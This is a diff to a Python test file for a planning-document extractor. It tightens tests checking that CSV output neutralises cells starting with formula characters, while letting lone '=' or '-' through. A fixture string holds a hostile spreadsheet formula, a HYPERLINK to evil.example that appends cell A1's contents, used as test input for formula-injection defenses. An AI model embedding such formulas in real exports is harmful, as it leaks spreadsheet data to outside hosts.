@@ -137,7 +137,8 @@ def test_a_text_cell_that_would_start_a_formula_gets_a_quote(start: str):
 
 
 def test_numbers_and_ordinary_text_are_left_as_they_are():
-    assert [spreadsheet_cell(cell) for cell in (-5, 2.5, None, "全市建成10个", "1-2期")] == [-5, 2.5, "", "全市建成10个", "1-2期"]
+    values = (-5, 2.5, None, "全市建成10个", "1-2期", "=", "-")  # a lone = (the comparator) or - is no formula
+    assert [spreadsheet_cell(cell) for cell in values] == [-5, 2.5, "", "全市建成10个", "1-2期", "=", "-"]
 
 
 HOSTILE_PLAN = """一、=HYPERLINK("http://evil.example/?"&A1,"点击")
@@ -156,7 +157,7 @@ def cells(data: bytes | str) -> list[str]:
 def test_no_csv_table_of_extract_holds_a_formula(planparse, tmp_path: Path, table: str):
     run = planparse("extract", write_plan(tmp_path, HOSTILE_PLAN), "--format", "csv", "--table", table)
     assert run.code == 0, run.stderr
-    assert not [cell for cell in cells(run.stdout) if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert not [cell for cell in cells(run.stdout) if len(cell) > 1 and cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
 
 
 def test_hostile_text_reaches_the_csv_quoted_not_dropped(planparse, tmp_path: Path):
@@ -176,4 +177,4 @@ def test_batch_csv_files_hold_no_formula(tmp_path: Path):
     for name in ("targets.csv", "documents.csv"):
         found = cells((tmp_path / "out" / name).read_bytes())
         assert "'=cmd.txt" in found
-        assert not [cell for cell in found if cell.startswith(("=", "+", "-", "@"))]
+        assert not [cell for cell in found if len(cell) > 1 and cell.startswith(("=", "+", "-", "@"))]
